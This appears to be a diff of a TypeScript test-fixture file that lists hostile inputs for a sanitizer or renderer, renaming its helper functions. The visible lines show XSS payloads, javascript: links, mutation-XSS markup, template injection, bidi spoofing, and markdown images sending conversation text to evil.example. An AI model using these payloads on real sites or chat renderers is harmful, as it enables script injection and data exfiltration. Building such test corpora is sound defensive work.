@@ -3,23 +3,23 @@
  * they load come from `evil.example`.
  */
 export const HOSTILE_TEXTS: readonly string[] = [
-  ...scripts(),
-  ...handlers(),
-  ...loaders(),
-  ...foreignMarkup(),
-  ...documentMarkup(),
-  ...mutations(),
-  ...links(),
-  ...images(),
-  ...markdownTricks(),
-  ...styles(),
-  ...templates(),
-  ...contexts(),
-  ...characters(),
-  ...longTexts(),
+  ...listScriptTexts(),
+  ...listHandlerTexts(),
+  ...listLoadingTexts(),
+  ...listForeignMarkup(),
+  ...listDocumentMarkup(),
+  ...listMutatingTexts(),
+  ...listLinkTexts(),
+  ...listImageTexts(),
+  ...listMarkdownTricks(),
+  ...listStyleTexts(),
+  ...listTemplateTexts(),
+  ...listContextBreakingTexts(),
+  ...listCharacterTricks(),
+  ...listLongTexts(),
 ]
 
-function scripts(): string[] {
+function listScriptTexts(): string[] {
   return [
     '<script>hit(1)</script>',
     '<script>alert(document.domain)</script>',
@@ -48,7 +48,7 @@ function scripts(): string[] {
   ]
 }
 
-function handlers(): string[] {
+function listHandlerTexts(): string[] {
   const onError = ['img', 'image', 'video', 'audio', 'source', 'link', 'object', 'embed', 'track', 'input type=image']
   const onLoad = ['body', 'svg', 'iframe', 'frameset', 'style', 'html']
   const onFocus = [
@@ -93,7 +93,7 @@ function handlers(): string[] {
   ]
 }
 
-function loaders(): string[] {
+function listLoadingTexts(): string[] {
   const url = 'https://evil.example/x'
   return [
     `<img src=${url}.png>`,
@@ -121,7 +121,7 @@ function loaders(): string[] {
   ]
 }
 
-function foreignMarkup(): string[] {
+function listForeignMarkup(): string[] {
   return [
     '<svg><script>hit(1)</script></svg>',
     '<svg/onload=hit(1)>',
@@ -146,7 +146,7 @@ function foreignMarkup(): string[] {
   ]
 }
 
-function documentMarkup(): string[] {
+function listDocumentMarkup(): string[] {
   return [
     '<base href="https://evil.example/">',
     '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
@@ -171,7 +171,7 @@ function documentMarkup(): string[] {
   ]
 }
 
-function mutations(): string[] {
+function listMutatingTexts(): string[] {
   return [
     '<noscript><p title="</noscript><img src=x onerror=hit(1)>">',
     '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit(1)&gt;">',
@@ -196,7 +196,7 @@ function mutations(): string[] {
   ]
 }
 
-function links(): string[] {
+function listLinkTexts(): string[] {
   const schemes = [
     'javascript:hit(1)',
     'JaVaScRiPt:hit(1)',
@@ -249,7 +249,7 @@ function links(): string[] {
   ]
 }
 
-function images(): string[] {
+function listImageTexts(): string[] {
   return [
     '![x](https://evil.example/x.png)',
     '![x](https://evil.example/x.png?kept=what-was-said "title")',
@@ -266,7 +266,7 @@ function images(): string[] {
   ]
 }
 
-function markdownTricks(): string[] {
+function listMarkdownTricks(): string[] {
   return [
     '```html\n<script>hit(1)</script>\n```',
     '```"><script>hit(1)</script>\nx\n```',
@@ -301,7 +301,7 @@ function markdownTricks(): string[] {
   ]
 }
 
-function styles(): string[] {
+function listStyleTexts(): string[] {
   return [
     '<style>@import url(https://evil.example/x.css);</style>',
     '<style>* { background: url(https://evil.example/x) !important }</style>',
@@ -322,7 +322,7 @@ function styles(): string[] {
   ]
 }
 
-function templates(): string[] {
+function listTemplateTexts(): string[] {
   return [
     '{{constructor.constructor("hit(1)")()}}',
     '$' + '{hit(1)}',
@@ -344,7 +344,7 @@ function templates(): string[] {
   ]
 }
 
-function contexts(): string[] {
+function listContextBreakingTexts(): string[] {
   return [
     '</script><img src=x onerror=hit(1)>',
     '<!--<script>',
@@ -365,7 +365,7 @@ function contexts(): string[] {
   ]
 }
 
-function characters(): string[] {
+function listCharacterTricks(): string[] {
   return [
     '\u202e<script>hit(1)</script>\u202c',
     '[shop.example\u202e/moc.live](https://evil.example/)',
@@ -386,7 +386,7 @@ function characters(): string[] {
   ]
 }
 
-function longTexts(): string[] {
+function listLongTexts(): string[] {
   return [
     `<script>hit(1)</script>${'a'.repeat(4_000)}`,
     `${'<b>'.repeat(800)}<img src=x onerror=hit(1)>`,
